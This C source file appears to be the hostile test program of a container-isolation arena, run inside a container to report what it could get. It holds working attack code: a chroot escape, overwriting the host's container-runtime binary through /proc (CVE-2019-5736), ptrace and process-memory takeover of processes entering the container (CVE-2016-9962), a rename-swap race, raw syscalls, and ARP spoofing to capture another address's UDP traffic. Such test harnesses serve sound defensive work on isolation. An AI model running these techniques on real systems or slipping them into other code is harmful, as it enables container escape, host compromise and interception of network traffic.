// A program that means harm. The arena puts it into a container and asks what it got. Each way of attacking is a word:
//
//   attacker break-out PATH            leaves a chroot in the classic way, and prints what is in PATH out there
//   attacker overwrite SECONDS NAME…   waits for who enters the container, to write to the program he is (CVE-2019-5736)
//   attacker trace SECONDS NAME…       waits for who enters, to look into him and to take him over (CVE-2016-9962)
//   attacker swap PATH PATH            exchanges two names for ever, for whoever looks at the one and uses the other
//   attacker call NUMBER[:ARGUMENT…]…  makes system calls, and prints what the kernel answered, a line for each
//   attacker spoof LINK ADDRESS        tells everybody on LINK that ADDRESS is here, and prints what is then sent to it
//
// Who enters has a name of his own: processes called NAME are not meant. What was got of him is printed as "got …", each
// thing once. What is written over a program are the bytes it begins with anyway.

#include "sys.h"

#include <linux/fcntl.h>
#include <linux/fs.h>
#include <linux/if_ether.h>
#include <linux/if_packet.h>
#include <linux/poll.h>
#include <linux/ptrace.h>
#include <linux/sockios.h>
#include <linux/time.h>
#include <linux/uio.h>
#include <linux/wait.h>

static void say(const char *first, const char *second) {
  char line[512];
  char *end = append(append(line, first), second);
  *end++ = '\n';
  sys(__NR_write, 1, line, (size_t)(end - line));
}

// ---- the way out of a chroot

// A directory that was open before the root went below it is outside of the root, and from there ".." leads on.
static int break_out(const char *path) {
  char text[64];
  i64 outside = sys(__NR_openat, AT_FDCWD, "/", O_RDONLY, 0);
  sys(__NR_mkdirat, AT_FDCWD, "/tmp/inner", 0700);
  if (sys(__NR_chroot, "/tmp/inner") < 0 || sys(__NR_fchdir, outside) < 0) return 1;
  for (int level = 0; level < 64; level++) sys(__NR_chdir, "..");
  if (sys(__NR_chroot, ".") < 0) return 1;
  i64 fd = sys(__NR_openat, AT_FDCWD, path, O_RDONLY, 0);
  i64 count = fd < 0 ? -1 : sys(__NR_read, fd, text, sizeof text - 1);
  text[count > 0 ? count : 0] = 0;
  say(count > 0 ? text : "not found", "");
  return 0;
}

// ---- who enters

static const char *path_of(i64 pid, const char *name) {
  static char path[64];
  char *end = append(decimal(append(path, "/proc/"), (u64)pid, 1), "/");
  *append(end, name) = 0;
  return path;
}

// His name as the kernel has it; empty when there is no such process.
static void name_of(i64 pid, char *name, size_t size) {
  i64 fd = sys(__NR_openat, AT_FDCWD, path_of(pid, "comm"), O_RDONLY, 0);
  i64 count = fd < 0 ? 0 : sys(__NR_read, fd, name, size);
  if (fd >= 0) sys(__NR_close, fd);
  name[count > 0 ? count - 1 : 0] = 0;
}

static int is_known(const char *name, char **known) {
  while (*known && !equal(name, *known)) known++;
  return !*name || *known;
}

// What has become another program meanwhile is no longer who came in.
static int is_still(i64 pid, const char *name) {
  char later[32];
  name_of(pid, later, sizeof later);
  return equal(name, later);
}

// A descriptor of his program can be kept until he has left, and be opened for writing then: while a program runs its file
// is busy. So it is tried for a while. Sealed memory can be opened, but not be written to.
static const char *overwrite(i64 pid, const char *name) {
  char place[64] = "/proc/self/fd/";
  i64 file = sys(__NR_openat, AT_FDCWD, path_of(pid, "exe"), O_PATH, 0);
  if (file >= 0 && !is_still(pid, name)) return sys(__NR_close, file), (char *)0;
  if (file < 0) return is_still(pid, name) ? "nothing" : 0;
  *decimal(place + length(place), (u64)file, 1) = 0;
  for (int times = 0; times < 20000; times++) {
    i64 fd = sys(__NR_openat, AT_FDCWD, place, O_WRONLY, 0);
    if (fd == -ETXTBSY) continue;
    i64 written = fd < 0 ? fd : sys(__NR_write, fd, "\177ELF", 4);
    if (fd >= 0) sys(__NR_close, fd);
    sys(__NR_close, file);
    return written == 4 ? "his program, written to" : "his program's name";
  }
  sys(__NR_close, file);
  return "his program's name";
}

static const char *look_into(i64 pid) {
  char target[256], bytes[64];
  struct iovec here = {bytes, sizeof bytes}, there = {(void *)0x400000, sizeof bytes};
  if (sys(__NR_ptrace, PTRACE_SEIZE, pid, 0, 0) == 0) {
    // He is let go again: whoever waits for his end would otherwise have to wait for ours.
    sys(__NR_ptrace, PTRACE_INTERRUPT, pid, 0, 0);
    sys(__NR_wait4, pid, 0, __WALL, 0);
    sys(__NR_ptrace, PTRACE_DETACH, pid, 0, 0);
    return "hold of him";
  }
  if (sys(__NR_openat, AT_FDCWD, path_of(pid, "mem"), O_RDWR, 0) >= 0) return "his memory";
  if (sys(__NR_process_vm_readv, pid, &here, 1, &there, 1, 0) > 0) return "his memory";
  static const char *const links[] = {"exe", "cwd", "root", "fd/0", "fd/3", "fd/5"};
  for (u32 i = 0; i < COUNT(links); i++)
    if (sys(__NR_readlinkat, AT_FDCWD, path_of(pid, links[i]), target, sizeof target) > 0) return links[i];
  return "nothing";
}

static const char *trace(i64 pid, const char *name) {
  const char *got = look_into(pid);
  return is_still(pid, name) ? got : 0;
}

static i64 seconds(void) {
  struct __kernel_timespec now;
  sys(__NR_clock_gettime, 1 /* CLOCK_MONOTONIC */, &now);
  return now.tv_sec;
}

// Whatever is got is told once.
static int wait_for(const char *(*attack)(i64, const char *), i64 span, char **known) {
  const char *told[16];
  u32 count = 0;
  for (i64 end = seconds() + span; seconds() < end;) {
    for (i64 pid = 2; pid < 300; pid++) {
      char name[32];
      name_of(pid, name, sizeof name);
      const char *got = is_known(name, known) ? 0 : attack(pid, name);
      u32 at = 0;
      while (at < count && told[at] != got) at++;
      if (!got || at < count || count == COUNT(told)) continue;
      told[count++] = got;
      say("got ", got);
    }
  }
  return 0;
}

// ---- somebody else's address

// What Ethernet begins every packet with: for whom, from whom, and what is in it. Then ARP (RFC 826): a question that names
// the asker. Who hears it notes where he is, since he is going to be asked for the answer.
struct claim {
  u8 to[6], from[6], kind[2];
  u8 hardware[2], protocol[2], lengths[2], question[2];
  u8 sender[6], sender_address[4], target[6], target_address[4];
};

static void write_claim(struct claim *claim, const u8 *mac, const u8 *address) {
  *claim = (struct claim){.kind = {0x08, 0x06}, .hardware = {0, 1}, .protocol = {0x08, 0}, .lengths = {6, 4}, .question = {0, 1}};
  memset(claim->to, 0xff, 6);
  memcpy(claim->from, mac, 6);
  memcpy(claim->sender, mac, 6);
  memcpy(claim->sender_address, address, 4);
  memcpy(claim->target_address, address, 4);
}

// Of a packet of UDP to the address, what is in it: it begins behind Ethernet's 14 bytes, IP's 20 and UDP's 8.
static void tell(u8 *packet, i64 count, const u8 *address) {
  if (count <= 42 || packet[12] != 0x08 || packet[13] != 0 || packet[23] != 17) return;
  for (u32 n = 0; n < 4; n++)
    if (packet[30 + n] != address[n]) return;
  i64 end = 42;
  while (end < count && packet[end] >= ' ') end++;
  packet[end] = 0;
  say("got ", (char *)packet + 42);
}

// ETH_P_IP, its first byte first. Of these, those that come in: ETH_P_ALL has those as well that go out again, from a
// container whose host hands packets on (packet(7)).
enum { IP_PACKETS = 0x0008 };

static int spoof(const char *link, const char *text) {
  u8 address[4], packet[2048];
  struct claim claim;
  struct {
    char name[16];
    union {
      i32 index;
      u8 mac[24];
    };
  } asked = {0};
  append(asked.name, link);
  parse_address(text, address);
  i64 fd = sys(__NR_socket, 17 /* AF_PACKET */, 3 /* SOCK_RAW */, IP_PACKETS);
  if (fd < 0) {
    *decimal((char *)packet, (u64)-fd, 1) = 0;
    say("no socket for raw packets: error ", (char *)packet);
    return 1;
  }
  if (sys(__NR_ioctl, fd, SIOCGIFHWADDR, &asked) < 0) return 1;
  // Two bytes of it say what kind of address follows.
  write_claim(&claim, asked.mac + 2, address);
  if (sys(__NR_ioctl, fd, SIOCGIFINDEX, &asked) < 0) return 1;
  struct sockaddr_ll on = {.sll_family = 17, .sll_protocol = IP_PACKETS, .sll_ifindex = asked.index};
  if (sys(__NR_bind, fd, &on, sizeof on) < 0) return 1;
  // Again and again: the other one answers for itself whenever it is asked.
  for (;;) {
    struct pollfd poll = {.fd = (int)fd, .events = POLLIN};
    struct __kernel_timespec tenth = {.tv_nsec = 100000000};
    sys(__NR_sendto, fd, &claim, sizeof claim, 0, 0, 0);
    if (sys(__NR_ppoll, &poll, 1, &tenth, 0, 0) <= 0) continue;
    tell(packet, sys(__NR_read, fd, packet, sizeof packet - 1), address);
  }
}

// ---- the rest

static int swap(const char *left, const char *right) {
  for (;;) {
    i64 result = sys(__NR_renameat2, AT_FDCWD, left, AT_FDCWD, right, RENAME_EXCHANGE);
    if (result < 0) return (int)-result;
  }
}

static i64 signed_number(const char *text) { return *text == '-' ? -number(text + 1) : number(text); }

static int call(char **words) {
  for (; *words; words++) {
    i64 args[7] = {0};
    char digits[32] = "-", *word = *words;
    for (u32 n = 0; n < COUNT(args) && word; n++) {
      args[n] = signed_number(word);
      while (*word && *word != ':') word++;
      word = *word ? word + 1 : 0;
    }
    i64 result = syscall6(args[0], args[1], args[2], args[3], args[4], args[5], args[6]);
    *decimal(digits + 1, (u64)(result < 0 ? -result : result), 1) = 0;
    say(result < 0 ? digits : digits + 1, "");
  }
  return 0;
}

int main(int argc, char **argv, char **envp) {
  (void)envp;
  if (argc < 3) return 2;
  if (equal(argv[1], "break-out")) return break_out(argv[2]);
  if (equal(argv[1], "overwrite")) return wait_for(overwrite, number(argv[2]), argv + 3);
  if (equal(argv[1], "trace")) return wait_for(trace, number(argv[2]), argv + 3);
  if (equal(argv[1], "swap") && argc == 4) return swap(argv[2], argv[3]);
  if (equal(argv[1], "call")) return call(argv + 2);
  if (equal(argv[1], "spoof") && argc == 4) return spoof(argv[2], argv[3]);
  return 2;
}
